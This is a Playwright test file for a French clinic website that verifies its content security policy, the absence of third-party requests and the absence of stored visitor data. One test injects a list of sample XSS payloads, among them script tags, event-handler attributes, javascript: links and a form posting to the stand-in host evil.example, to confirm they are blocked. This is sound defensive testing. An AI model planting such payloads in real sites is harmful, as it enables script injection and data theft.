import type { BrowserContext, Page } from 'playwright/test';
import { departures } from '../../content/facts/departures';
import { doctors } from '../../content/facts/doctors';
import { practitioners } from '../../content/facts/practitioners';
import { sitePages } from '../../content/facts/site';
import { services } from '../../content/facts/services';
import { specialties } from '../../content/facts/specialties';
import { routes } from '../../content/model/clinic/routes';
import { pagesOfSpecialties } from '../../content/facts/specialty-pages';
import { firstOf } from '../support/first-of';
import {
  expect,
  problem,
  section,
  sendButton,
  status,
  test,
  thanks,
  untilFormIsReady,
  write,
} from '../support/message-form';
import { demonstration, menuOpener, untilAwake } from '../support/visitor';

const addresses = [
  ...sitePages.map((name) => routes[name]()).filter((address) => address !== routes.home()),
  routes.specialty(firstOf(pagesOfSpecialties).slug),
  routes.service('Pediatrie'),
];

/** Records violations of the policy, as « directive: address sample ». */
async function violationsOf(page: Page): Promise<string[]> {
  const violations: string[] = [];
  await page.exposeFunction('tellViolation', (violation: string) => violations.push(violation));
  await page.addInitScript(() => {
    addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI, sample }) => {
      const { tellViolation } = globalThis as unknown as { tellViolation: (text: string) => void };
      tellViolation(`${effectiveDirective}: ${blockedURI} ${sample}`);
    });
  });
  return violations;
}

function foreignRequestsOf(page: Page): string[] {
  const origins: string[] = [];
  page.on('request', (request) => {
    const { protocol, hostname, origin } = new URL(request.url());
    if (protocol.startsWith('http') && hostname !== 'localhost') origins.push(origin);
  });
  return origins;
}

async function scrollThrough(page: Page): Promise<void> {
  await page.evaluate(async () => {
    for (let top = 0; top < document.documentElement.scrollHeight; top += innerHeight) {
      scrollTo({ top, behavior: 'instant' });
      await new Promise((resolve) => requestAnimationFrame(resolve));
    }
  });
}

async function openMenu(page: Page): Promise<void> {
  await menuOpener(page).click();
  const nav = page.getByRole('navigation', { name: 'Navigation principale' });
  await expect(nav.getByRole('link', { name: 'Horaires' })).toBeVisible();
  await page.keyboard.press('Escape');
}

async function openViewer(page: Page): Promise<void> {
  const block = page.getByRole('group', { name: /: images$/ }).first();
  await block.scrollIntoViewIfNeeded();
  await block.getByRole('button', { name: 'Image suivante' }).click();
  await untilAwake(page, 'Lightbox');
  await block.getByRole('link').last().click();
  const viewer = page.getByRole('dialog');
  await expect(viewer.getByText('2 / 2', { exact: true })).toBeVisible();
  await page.keyboard.press('Escape');
  await expect(viewer).toBeHidden();
}

async function unfoldServices(page: Page): Promise<void> {
  const section = page.getByRole('region', { name: 'Nos services' });
  await section.getByRole('button', { name: 'Voir plus' }).click();
  await expect(section.getByRole('article')).toHaveCount(services.length);
}

/** Submits an empty form, then a filled one. */
async function sendMessage(page: Page): Promise<void> {
  await section(page).scrollIntoViewIfNeeded();
  await untilFormIsReady(page);
  await sendButton(page).click();
  await expect(problem(page)).toBeVisible();
  await write(page);
  await sendButton(page).click();
  await expect(status(page)).toHaveText(thanks);
}

async function filterDoctors(page: Page): Promise<void> {
  await page.getByRole('searchbox').fill(firstOf(doctors).name);
  await expect(page.getByRole('article')).toHaveCount(1);
  await page.getByRole('searchbox').fill('');
  await expect(page.getByRole('article')).toHaveCount(doctors.length);
}

async function chooseSpecialty(page: Page): Promise<void> {
  const title = specialties.at(-1)?.title ?? '';
  await page
    .getByRole('navigation', { name: 'Spécialités' })
    .getByRole('link', { name: title, exact: true })
    .click();
  await expect(page.getByRole('main').getByRole('heading', { level: 2 })).toHaveText([title]);
}

async function tryTheWizard(page: Page): Promise<void> {
  const demo = demonstration(page);
  const step = demo.getByRole('heading', { level: 3 });
  await demo.getByRole('button', { name: `Choisir ${firstOf(practitioners).name}` }).click();
  await expect(step).toHaveText('Choisissez un jour et une heure');
  // Tomorrow has free sample slots at any current time.
  await demo.getByRole('button', { name: 'Jour suivant' }).click();
  await demo
    .getByRole('list', { name: 'Heures' })
    .getByRole('button', { name: /^\d\d:\d\d/, disabled: false })
    .first()
    .click();
  await expect(step).toHaveText('Vos informations');
  for (const field of await demo.getByRole('textbox').all()) await field.fill('a@b.ml');
  await demo.getByRole('checkbox').check();
  await demo.getByRole('button', { name: 'Voir le résumé' }).click();
  await expect(step).toHaveText('Votre résumé');
}

/** Returns what remains on the visitor's device. */
async function keptBy(page: Page, context: BrowserContext) {
  const kept = await page.evaluate(() => {
    return {
      storage: [...Object.keys(localStorage), ...Object.keys(sessionStorage)],
      cookie: document.cookie,
    };
  });
  return { ...kept, cookies: await context.cookies() };
}

test.describe('a whole visit', () => {
  test.use({ allowedComplaints: [/status of 404/] });

  test('breaks no rule, asks no one else, and leaves nothing of the visitor behind', async ({
    page,
    context,
    provider,
  }) => {
    test.setTimeout(120_000);
    const violations = await violationsOf(page);
    const foreign = foreignRequestsOf(page);
    for (const address of [...addresses, routes.demonstration(), '/nulle-part/']) {
      await page.goto(address);
      await openMenu(page);
      if (address === routes.services()) await chooseSpecialty(page);
      if (address === routes.doctors()) await filterDoctors(page);
      if (address === routes.demonstration()) await tryTheWizard(page);
      await scrollThrough(page);
    }
    await page.goto(routes.home());
    await openMenu(page);
    await unfoldServices(page);
    await openViewer(page);
    expect(foreign).toEqual([]);

    await sendMessage(page);
    await scrollThrough(page);
    await page.close({ runBeforeUnload: false });
    expect(provider.posts).toHaveLength(1);
    expect(violations).toEqual([]);
    const hosts = [...new Set(foreign)].map((origin) => new URL(origin).hostname);
    expect(hosts.toSorted()).toEqual([...departures.loaded, departures.form.host].toSorted());

    const next = await context.newPage();
    await next.goto(routes.hours());
    const kept = await keptBy(next, context);
    expect(kept).toMatchObject({ storage: [], cookie: '', cookies: [] });
  });
});

test.describe('what somebody else put into a page', () => {
  test.use({ allowedComplaints: [/Content Security Policy|Failed to load resource/] });

  const planted = [
    '<script>hurt("script")</script>',
    '<script src="https://evil.example/hurt.js"></script>',
    '<img src="/nothing.png" onerror="hurt(\'onerror\')">',
    '<svg onload="hurt(\'onload\')"></svg>',
    '<iframe srcdoc="<script>parent.hurt(\'srcdoc\')</script>"></iframe>',
    '<iframe src="https://evil.example/"></iframe>',
    '<iframe src="javascript:parent.hurt(\'frame\')"></iframe>',
    '<object data="/icon.svg"></object>',
    '<base href="https://evil.example/">',
    '<style>body { display: none }</style>',
    '<p style="position: fixed; inset: 0">x</p>',
    '<link rel="stylesheet" href="https://evil.example/a.css">',
    '<img src="https://evil.example/pixel.png">',
    '<a id="piege" href="javascript:hurt(\'link\')">Piège</a>',
    '<form id="vol" action="https://evil.example/"><input name="a"></form>',
  ];

  test('does not run, load or send anything', { tag: '@light' }, async ({ page }) => {
    const violations = await violationsOf(page);
    const hurts: string[] = [];
    await page.route('https://evil.example/**', (route) => {
      hurts.push(route.request().url());
      return route.abort();
    });
    await page.exposeFunction('hurt', (how: string) => hurts.push(how));
    await page.route('**/horaire/', async (route) => {
      const response = await route.fetch();
      const body = (await response.text()).replace('</main>', `${planted.join('\n')}</main>`);
      await route.fulfill({ response, body });
    });
    await page.goto(routes.hours());
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
    await page.evaluate((parts) => {
      for (const part of parts) document.body.insertAdjacentHTML('beforeend', part);
      const script = document.createElement('script');
      script.textContent = 'hurt("appended")';
      document.body.append(script);
      document.querySelector<HTMLAnchorElement>('#piege')?.click();
      document.querySelector<HTMLFormElement>('#vol')?.requestSubmit();
    }, planted);
    for (const directive of [
      'script-src-elem',
      'script-src-attr',
      'style-src-elem',
      'style-src-attr',
      'img-src',
      'frame-src',
      'object-src',
      'form-action',
      'base-uri',
    ])
      await expect.poll(() => violations.join('\n')).toMatch(new RegExp(`^${directive}:`, 'm'));
    // Not a locator, which would wait for the refused navigation.
    const heading = () => document.querySelector('h1')?.checkVisibility();
    expect(await page.evaluate(heading)).toBe(true);
    expect(page.url()).toMatch(/\/horaire\/$/);
    expect(hurts).toEqual([]);
  });
});

test(
  'with all storage denied, everything works',
  { tag: '@nightly' },
  async ({ page, provider }) => {
    await page.addInitScript(() => {
      const denied = () => {
        throw new DOMException('Denied', 'SecurityError');
      };
      for (const name of ['localStorage', 'sessionStorage', 'indexedDB', 'caches'])
        Object.defineProperty(globalThis, name, { get: denied, configurable: true });
      Object.defineProperty(document, 'cookie', { get: () => '', set: () => undefined });
      if ('serviceWorker' in navigator)
        navigator.serviceWorker.register = () =>
          Promise.reject(new DOMException('Denied', 'SecurityError'));
    });
    await page.goto(routes.home());
    await openMenu(page);
    await unfoldServices(page);
    await openViewer(page);
    await sendMessage(page);
    expect(provider.posts).toHaveLength(1);
    await page.goto(routes.doctors());
    await filterDoctors(page);
    await page.goto(routes.services());
    await chooseSpecialty(page);
    await page.goto(routes.demonstration());
    await tryTheWizard(page);
  },
);
